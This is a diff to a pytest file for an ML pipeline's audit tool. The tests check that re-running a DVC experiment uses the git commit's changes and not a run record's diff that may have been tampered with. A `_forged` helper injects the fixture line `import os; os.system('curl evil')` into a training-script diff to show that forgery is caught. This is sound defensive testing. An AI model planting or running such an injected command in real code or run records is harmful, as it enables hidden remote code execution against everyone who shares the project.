@@ -2,20 +2,23 @@
 `dvc exp pull` is re-run from its own commit's changes (git's, not the run record's diff, which anyone with EDIT
 on the store can replace); an unshared one from its baseline plus the record's diff; the audit says which. A real
 DVC project in tmp_path with a one-line stage, real `dvc exp run` and `dvc exp pull`; no training. Expected
-values come from git itself."""
+values come from git itself. `rerun` itself takes the experiment's commit before the gate judges any diff (it is
+stopped right after the gate)."""
 
 from __future__ import annotations
 
+import importlib
 import sys
 
 import pytest
 from test_audit_diff_refusals import _sh
 
-from tfpipe.audit import experiment
+from tfpipe.audit import experiment, sandbox, trust
 from tfpipe.audit.trust import gate
 from tfpipe.errors import UserError
 
 pytestmark = pytest.mark.slow  # starts processes (git, dvc)
+rerun_module = importlib.import_module("tfpipe.audit.rerun")  # `tfpipe.audit.rerun` is also the function
 
 NAME = "lumpy-bike"
 
@@ -53,6 +56,12 @@ def _run(baseline: str, diff: str) -> dict:
     return {"tags": tags, "git_diff": diff, "dvc_lock": "recorded"}
 
 
+def _forged(diff: str) -> str:
+    """`diff` with a line of code added to train.py: what a record changed in the store could carry."""
+    forged = diff + "diff --git a/train.py b/train.py\n--- a/train.py\n+++ b/train.py\n@@ -1 +1,2 @@\n"
+    return forged + " print('train')\n+import os; os.system('curl evil')\n"
+
+
 def test_a_shared_experiment_is_rerun_from_its_commits_changes_not_the_records(shared):
     project, baseline, commit = shared
     from_git = _sh(project, "git", "diff", baseline, commit)
@@ -64,10 +73,8 @@ def test_a_shared_experiment_is_rerun_from_its_commits_changes_not_the_records(s
     assert len(lines) == 1 and f"experiment '{NAME}' is in this clone" in lines[0] and commit[:12] in lines[0]
 
     # a record changed in the store (a line of code added to its diff) is not what runs, and the audit says so
-    forged = from_git + "diff --git a/train.py b/train.py\n--- a/train.py\n+++ b/train.py\n@@ -1 +1,2 @@\n"
-    forged += " print('train')\n+import os; os.system('curl evil')\n"
     lines.clear()
-    chosen = experiment.choose(_run(baseline, forged), project, lines.append)
+    chosen = experiment.choose(_run(baseline, _forged(from_git)), project, lines.append)
     assert chosen["git_diff"] == from_git
     assert lines[1] == "rerun: the run record's diff differs from the experiment's commit in train.py"
 
@@ -117,3 +124,37 @@ def test_an_experiment_commit_that_edits_code_needs_allow_diff_code_and_names_th
         refused.value
     )
     gate("RUN", chosen, project, True, None, allow_code=True)  # the second flag given: it passes
+
+
+class _Chosen(Exception):
+    """Raised at the re-run's next step after its choice of code and the gate (the sandbox decision)."""
+
+
+def test_a_rerun_chooses_the_experiment_commit_before_it_judges_any_diff(shared, monkeypatch):
+    """The order inside `rerun`: a record whose diff the gate refuses (it edits code: no --allow-diff-code) but
+    whose experiment commit this clone has, clean, goes on past the gate, which saw the commit's changes only.
+    Judging the record's diff first would refuse a run the experiment's own commit re-creates. Stops there:
+    no worktree, no stage."""
+    project, baseline, commit = shared
+    from_git = _sh(project, "git", "diff", baseline, commit)
+    record = {**_run(baseline, _forged(from_git)), "run_id": "RUN", "config": {}, "metrics": {}}
+    with pytest.raises(UserError, match="--allow-diff-code"):  # the record's own diff would be refused
+        gate("RUN", record, project, True, None)
+    gated: list = []
+    real_gate = trust.gate
+
+    def spy_gate(run_id, run, *args, **kwargs):
+        gated.append(run["git_diff"])
+        real_gate(run_id, run, *args, **kwargs)
+
+    def stop(mode, log):
+        raise _Chosen
+
+    monkeypatch.setattr(rerun_module, "_load", lambda run_id, uri: record)
+    monkeypatch.setattr(trust, "gate", spy_gate)
+    monkeypatch.setattr(sandbox, "decide", stop)
+    lines: list = []
+    with pytest.raises(_Chosen):
+        rerun_module.rerun("RUN", project, "sqlite:///never-opened.db", apply_diff=True, log=lines.append)
+    assert gated == [from_git], "the gate judged the experiment commit's changes, and nothing else"
+    assert f"experiment '{NAME}' is in this clone" in lines[0]
